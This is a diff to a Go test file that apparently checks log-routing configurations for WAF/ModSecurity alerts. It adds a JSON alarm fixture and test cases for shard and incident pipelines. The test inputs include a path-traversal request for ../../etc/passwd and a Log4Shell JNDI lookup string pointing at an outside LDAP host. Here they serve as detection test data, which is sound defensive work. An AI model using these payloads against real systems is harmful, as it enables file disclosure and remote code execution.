@@ -75,6 +75,8 @@ func examples(t *testing.T) map[string][]probe {
 	}
 	attack, harmless := string(numbered(t, 1)), string(sample(t, "/harmless?n=1"))
 	line, harmlessLine := combined("10.0.0.7", "/?t=../../etc/passwd"), combined("10.0.0.9", "/harmless?n=1")
+	alarm := `{"rule_id":"930100","alert_engine":"modsecurity","src_ip":"10.0.0.7","dst_ip":"10.0.0.8","domain":"shop","url":"/?t=../../etc/passwd","msg":"Path Traversal Attack","severity":"2",` +
+		`"id":"0f3c8a51d2b7496e8a1c5d90e4f7b263","timestamp":"2026-11-20T10:11:12.482Z","category":"lfi","confidence":97,"outcome":"unknown"}`
 	line930 := []string{`rule_id":"930100"`, `preset":"nginx"`}
 	return map[string][]probe{
 		"nano-to-syslog.conf": {
@@ -133,7 +135,10 @@ func examples(t *testing.T) map[string][]probe {
 			want: []string{`"rule_id":"930100"`, `"src_ip":"192.168.1.105"`}}},
 		"aggregator.conf":         {{in: "tcp 15155", tag: "nano", attack: attack + "\n", harmless: harmless + "\n", out: "tcp 6514", want: []string{`"rule_id":"930100"`}}},
 		"annotate-and-route.conf": {{in: "udp 15155", tag: "nano", attack: attack, harmless: harmless, out: "udp 12201", want: []string{"/?n=1&t=../../etc/passwd"}}},
-		"own-rules.conf":          {{in: "udp 15155", tag: "nano", attack: attack, harmless: harmless, out: "udp 12201", want: []string{`"rule_id":"930100"`}}},
+		"shards.conf":             {{in: "udp 15155", tag: "nano", attack: attack, harmless: `{"note":"harmless"}`, out: "tcp 24224", want: []string{"msa_shard", "msa_source"}}},
+		"incidents.conf": {{in: "forward 24226", tag: "alerts", attack: alarm, harmless: `{"kind":"incident","incident_id":"harmless"}`, out: "tcp 5170",
+			want: []string{`"incident_id"`}}},
+		"own-rules.conf": {{in: "udp 15155", tag: "nano", attack: attack, harmless: harmless, out: "udp 12201", want: []string{`"rule_id":"930100"`}}},
 		"threaded-processor.yaml": {{in: "udp 15155", tag: "nano", attack: string(sample(t, "/internal/admin?t=../../etc/passwd")), harmless: harmless, out: "udp 12201",
 			want: []string{`"rule_id":"930100"`, `"rule_id":"100001"`}}},
 		"mapping.conf": {{in: "udp 15155", tag: "shop", attack: shop("/login?x=1", "${jndi:ldap://10.9.9.9/a}"), harmless: shop("/harmless", "b"), out: "udp 12201",
